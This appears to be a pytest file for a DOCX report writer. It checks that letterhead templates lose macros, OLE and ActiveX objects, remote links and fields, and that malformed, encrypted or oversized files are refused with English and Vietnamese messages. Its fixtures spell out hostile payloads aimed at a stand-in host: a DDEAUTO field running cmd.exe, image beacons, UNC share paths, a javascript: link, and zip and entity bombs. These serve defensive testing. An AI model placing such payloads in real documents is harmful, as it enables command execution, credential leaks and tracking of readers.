"""A letterhead brings its look and nothing that acts, fetches or tells of where it was made."""

import io
import os
import re
import subprocess
import sys
import zipfile

import docx
import pytest
from writers.docx.building import CHECKOUT, a_document, a_png, parts, written
from writers.docx.letterheads import ALL, NAME, by_docx, edited, headed, raw_header, relation, typed

from unhrc_reports.errors import ReferenceDocumentError
from unhrc_reports.writers.docx.reference import open_reference

WORDS = "<w:r><w:t>Mission</w:t></w:r>"
EVIL = "evil.example"


def field(instruction, shown="cached"):
    """A field of several runs."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r><w:r><w:fldChar '
        f'w:fldCharType="separate"/></w:r><w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def picture(attribute):
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="logo"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="l">'
        '<a:hlinkClick r:id="x7"/></pic:cNvPr><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f"<a:blip {attribute}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


OBJECT = (
    '<w:r><w:object w:dxaOrig="10" w:dyaOrig="10"><v:shape id="s"><v:imagedata r:id="x5"/></v:shape>'
    '<o:OLEObject Type="{}" ProgID="Package" ShapeID="s" DrawAspect="Content" ObjectID="_1" r:id="{}"/></w:object></w:r>'
)
HEADERS = {
    "an OLE object outside": (OBJECT.format("Link", "x1"), [relation(1, "oleObject", f"https://{EVIL}/x.html!", True)]),
    "an OLE object inside": (OBJECT.format("Embed", "x1"), [relation(1, "oleObject", "embeddings/o.bin")]),
    "an ActiveX control": ('<w:r><w:object><w:control r:id="x1" w:name="C" w:shapeid="s"/></w:object></w:r>',
                           [relation(1, "control", "activeX/a.xml")]),
    "macros": ("", [relation(1, "vbaProject", "vbaProject.bin")]),
    "a beacon": (picture('r:link="x1"'), [relation(1, "image", f"https://{EVIL}/pixel.png", True)]),
    "a share": (picture('r:embed="x1"'), [relation(1, "image", rf"\\{EVIL}\share\logo.png", True)]),
    "a clerk's path": (picture('r:embed="x5" r:link="x1"'), [relation(1, "image", "file:///C:/evil.example/a.png", True)]),
    "an old beacon": ('<w:r><w:pict><v:shape><v:imagedata r:id="x1"/></v:shape></w:pict></w:r>',
                      [relation(1, "image", f"http://{EVIL}/p.gif", True)]),
    "an address in an old drawing": (f'<w:r><w:pict><v:shape href="file://{EVIL}/x"><v:fill src="//{EVIL}/f.png"/>'
                                     '</v:shape></w:pict></w:r>', []),
    "a link to a program": (f'<w:hyperlink r:id="x1">{WORDS}</w:hyperlink>',
                            [relation(1, "hyperlink", f"javascript:{EVIL}", True)]),
    "a link to a share": (f'<w:hyperlink r:id="x1">{WORDS}</w:hyperlink>',
                          [relation(1, "hyperlink", f"file://{EVIL}/share", True)]),
    "a subdocument": ('<w:subDoc r:id="x1"/>', [relation(1, "subDocument", f"https://{EVIL}/x.docx", True)]),
    "another file": ("", [relation(1, "aFChunk", f"https://{EVIL}/x.html", True)]),
    "a program by DDE": (field(f' DDEAUTO c:\\\\windows\\\\cmd.exe "/k {EVIL}"'), []),
    "a program by DDE in pieces": (field(" " + field(f"QUOTE 68 68 69 {EVIL}", "DDE")), []),
    "a picture by a field": (field(f' INCLUDEPICTURE "https://{EVIL}/p.png" \\d'), []),
    "a text by a field": (f'<w:fldSimple w:instr="INCLUDETEXT &quot;\\\\\\\\{EVIL}\\\\x&quot;">{WORDS}</w:fldSimple>', []),
    "a link by a field": (field(f' HYPERLINK "file://{EVIL}/x"'), []),
    "a macro by a button": (field(f" MACROBUTTON {EVIL} click"), []),
    "a template's property": (field(f' DOCPROPERTY "{EVIL}"'), []),
}  # fmt: skip


@pytest.mark.parametrize("kind", HEADERS)
def test_what_acts_or_fetches_is_left_out_and_told(kind, tmp_path):
    xml, relations = HEADERS[kind]
    reference = by_docx(tmp_path / "letterhead.docx", raw_header(WORDS + xml))
    edited(
        reference,
        relations={"word/header1.xml": [*relations, relation(5, "image", "media/kept.png")]},
        added={"word/media/kept.png": a_png(), "word/embeddings/o.bin": b"evil.example", "word/vbaProject.bin": b"v",
               "word/activeX/a.xml": b"<ax xmlns='evil.example'/>"},
    )  # fmt: skip
    typed(reference, "word/media/kept.png", "image/png")

    content = written(a_document(), reference=reference)

    said = b"".join(parts(content).values())
    assert EVIL.encode() not in said
    assert not any(re.search(r"embeddings|activeX|vba|external", name) for name in parts(content))
    assert "Mission" in docx.Document(io.BytesIO(content)).sections[0].header.paragraphs[-1].text
    if kind not in ("macros", "another file", "a clerk's path", "a subdocument"):
        assert open_reference(reference).left_out, "what goes is told"


@pytest.mark.parametrize(
    "address", ["https://vnmission.example", "HTTP://vnmission.example", "mailto:press@vn.example"]
)
def test_links_of_the_web_and_of_email_stay(address, tmp_path):
    reference = by_docx(tmp_path / "l.docx", raw_header(f'<w:hyperlink r:id="x1">{WORDS}</w:hyperlink>'))
    edited(reference, relations={"word/header1.xml": [relation(1, "hyperlink", address, True)]})

    assert address in parts(written(a_document(), reference=reference))["word/_rels/header1.xml.rels"].decode()


def test_of_an_object_that_is_a_logo_the_picture_stays(tmp_path):
    reference = by_docx(tmp_path / "l.docx", raw_header(OBJECT.format("Embed", "x1")))
    edited(
        reference,
        relations={"word/header1.xml": [relation(1, "oleObject", "o.bin"), relation(5, "image", "media/k.png")]},
        added={"word/media/k.png": a_png(), "word/o.bin": b"x"},
    )
    content = parts(written(a_document(), reference=reference))

    assert content["word/media/kept1.png"] == a_png()
    assert b"imagedata" in content["word/header1.xml"]
    assert b"OLEObject" not in content["word/header1.xml"]


def test_names_and_ids_from_outside_reach_no_file_of_ours(tmp_path):
    reference = by_docx(tmp_path / "l.docx", headed(NAME))
    with zipfile.ZipFile(reference) as old:
        members = {name: old.read(name) for name in old.namelist()}
    rels = "word/_rels/document.xml.rels"
    identity = re.search(rb'Id="(rId\d+)"[^>]*header1.xml"|header1.xml"[^>]*Id="(rId\d+)"', members[rels])
    name = identity[1] or identity[2]
    evil = b"a&quot;&gt;&lt;evil"
    members[rels] = members[rels].replace(b'Id="' + name + b'"', b'Id="' + evil + b'"')
    members["word/document.xml"] = members["word/document.xml"].replace(
        b'r:id="' + name + b'"', b'r:id="' + evil + b'"'
    )
    with zipfile.ZipFile(reference, "w") as new:
        for part, content in members.items():
            new.writestr(part, content)

    content = parts(written(a_document(), reference=reference))

    assert not any(b"evil" in part for part in content.values())
    assert NAME.encode() in content["word/header1.xml"]


def test_frames_of_web_settings_stay_out(tmp_path):
    reference = by_docx(tmp_path / "l.docx")
    frames = f'<w:webSettings {ALL}><w:frameset><w:frame><w:sourceFileName r:id="x1"/></w:frame></w:frameset></w:webSettings>'
    edited(reference, added={"word/webSettings.xml": frames.encode()},
           relations={"word/webSettings.xml": [relation(1, "frame", rf"\\{EVIL}\share", True)],
                      "word/document.xml": [relation(9, "webSettings", "webSettings.xml")]})  # fmt: skip

    assert not any(
        EVIL in part.decode(errors="replace") for part in parts(written(a_document(), reference=reference)).values()
    )


REFUSED = {
    "folder": ("this is a folder", "thư mục"),
    "pipe": ("this is no file", "không phải là tệp"),
    "empty": ("the file is empty", "tệp trống"),
    "doc": ("Word 97–2003", "Word 97–2003"),
    "encrypted": ("protected by a password", "mật khẩu"),
    "sheet": ("another Office program", "chương trình Office khác"),
    "old sheet": ("another Office program", "chương trình Office khác"),
    "strict": ("not the one with «Strict»", "không chọn kiểu có chữ «Strict»"),
    "odt": ("OpenDocument", "OpenDocument"),
    "rtf": ("Rich Text", "Rich Text"),
    "pdf": ("this is a PDF", "PDF"),
    "html": ("a web page", "trang web"),
    "flat": ("saved as one XML file", "dạng XML"),
    "pages": ("a file of Pages", "Pages"),
    "owner": ("close Word", "đóng Word"),
    "cut": ("damaged or was not copied whole", "chép chưa hết"),
    "text": ("not a Word document", "không mở được"),
    "damaged part": ("its part word/styles.xml is damaged", "word/styles.xml"),
    "entities": ("not a Word document", "không mở được"),
    "locked": ("protected by a password", "mật khẩu"),
    "bomb": ("more than 100 MB when it is unpacked", "khi giải nén"),
    "large body": ("its part word/document.xml has more than 12 MB", "12 MB"),
    "many elements": ("or 500000 elements", "500000 phần tử"),
    "many parts": ("more than 4000 parts", "4000"),
}


def refused_file(kind, folder):
    """A file of a kind that cannot serve."""
    path = folder / ("~$tterhead.docx" if kind == "owner" else "letterhead.docx")
    beginnings = {
        "empty": b"", "rtf": rb"{\rtf1\ansi }", "pdf": b"%PDF-1.7\n", "html": b"<html><body>", "owner": b"\x05press" + bytes(9),
        "text": b"Dear colleague", "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99) + "WordDocument".encode("utf-16-le"),
        "encrypted": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99) + "EncryptedPackage".encode("utf-16-le"),
        "old sheet": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99) + "Workbook".encode("utf-16-le"),
        "flat": b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package/>',
    }  # fmt: skip
    if kind == "folder":
        path.mkdir()
    elif kind == "pipe":
        os.mkfifo(path)
    elif kind in beginnings:
        path.write_bytes(beginnings[kind])
    else:
        _archive(kind, by_docx(path))
    return path


STRICT = b"http://purl.oclc.org/ooxml/officeDocument/"
BOMB = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'
BODY = "word/document.xml"
CHANGED = {
    "strict": lambda parts: {"_rels/.rels": parts["_rels/.rels"].replace(
        b"http://schemas.openxmlformats.org/officeDocument/2006/", STRICT)},
    "sheet": lambda parts: {"[Content_Types].xml": parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main", b"spreadsheetml.sheet.main")},
    "odt": lambda _: {"mimetype": b"application/vnd.oasis.opendocument.text"},
    "damaged part": lambda parts: {"word/styles.xml": parts["word/styles.xml"][:-40]},
    "entities": lambda parts: {"word/settings.xml": BOMB + re.sub(
        rb"^<\?xml.*?\?>", b"", parts["word/settings.xml"]).lstrip()},
    "bomb": lambda _: {"word/media/x.bin": bytes(101_000_000)},
    "large body": lambda parts: {BODY: parts[BODY] + b"<!--" + b" " * 12_100_000 + b"-->"},
    "many elements": lambda parts: {BODY: with_blank_lines(parts[BODY], 1_100_000)},
    "many parts": lambda _: {f"x/{number}": b"" for number in range(4001)},
}  # fmt: skip
"""Kind of fault to the parts that a file of this kind has otherwise."""


def with_blank_lines(body, count):
    return body.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * count)


def _archive(kind, path):
    with zipfile.ZipFile(path) as old:
        members = {name: old.read(name) for name in old.namelist()}
    members = {"Index/Document.iwa": b"x"} if kind == "pages" else members
    members |= CHANGED.get(kind, lambda _: {})(members)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in members.items():
            new.writestr(name, content)
    if kind == "cut":
        path.write_bytes(path.read_bytes()[:-300])
    elif kind == "locked":
        content = bytearray(path.read_bytes())
        for found in re.finditer(rb"PK\x01\x02", bytes(content)):
            content[found.start() + 8] |= 1
        path.write_bytes(bytes(content))


@pytest.mark.parametrize("kind", [kind for kind in REFUSED if kind != "pipe" or hasattr(os, "mkfifo")])
def test_what_cannot_serve_is_refused_with_its_own_cure(kind, tmp_path):
    path = refused_file(kind, tmp_path)

    with pytest.raises(ReferenceDocumentError) as refused:
        written(a_document(), reference=path)

    english, vietnamese = REFUSED[kind]
    assert str(refused.value).startswith(str(path))
    assert english in str(refused.value)
    assert vietnamese in refused.value.message("vi")


def heavy_header(path):
    """As much as a letterhead may hold: a header of 200,000 placeholders, and a body of blank lines."""
    reference = by_docx(path, headed(NAME))
    with zipfile.ZipFile(reference) as old:
        members = {name: old.read(name) for name in old.namelist()}
    header = next(name for name in members if "header1.xml" in name and "rels" not in name)
    text = f"<w:p><w:r><w:t>{'{title}' * 200_000}</w:t></w:r></w:p>".encode()
    members[header] = re.sub(rb"<w:p>.*</w:p>|<w:p .*</w:p>", lambda _: text, members[header], flags=re.DOTALL)
    members[BODY] = with_blank_lines(members[BODY], 400_000)
    with zipfile.ZipFile(reference, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in members.items():
            new.writestr(name, content)
    return reference


@pytest.mark.skipif(sys.platform != "linux", reason="limits on memory are Linux's")
@pytest.mark.parametrize("kind", ["bomb", "large body", "many elements", "many parts", "heavy"])
def test_large_files_take_little_memory(kind, tmp_path):
    path = heavy_header(tmp_path / "l.docx") if kind == "heavy" else refused_file(kind, tmp_path)
    program = (
        "import sys; from pathlib import Path\n"
        "from unhrc_reports.errors import ReferenceDocumentError\n"
        "from unhrc_reports.writers.docx.reference import open_reference\n"
        "try: open_reference(Path(sys.argv[1]))\n"
        "except ReferenceDocumentError: pass\n"
        "peak = next(line for line in open('/proc/self/status') if line.startswith('VmHWM'))\n"
        "print(int(peak.split()[1]) // 1024)"  # of this program alone: ru_maxrss begins with that of its parent
    )
    run = [sys.executable, "-c", program, str(path)]
    said = subprocess.run(run, capture_output=True, encoding="utf-8", check=True, cwd=CHECKOUT)

    assert int(said.stdout) < 500


def test_a_part_that_is_longer_than_its_archive_says_is_not_unpacked(tmp_path):
    reference = by_docx(tmp_path / "l.docx")
    content = reference.read_bytes()
    listed = next(found.start() for found in re.finditer(rb"PK\x01\x02", content)
                  if content[found.start() + 46 :].startswith(b"word/styles.xml"))  # fmt: skip
    reference.write_bytes(content[: listed + 24] + (1).to_bytes(4, "little") + content[listed + 28 :])

    with pytest.raises(ReferenceDocumentError, match=r"damaged"):
        written(a_document(), reference=reference)
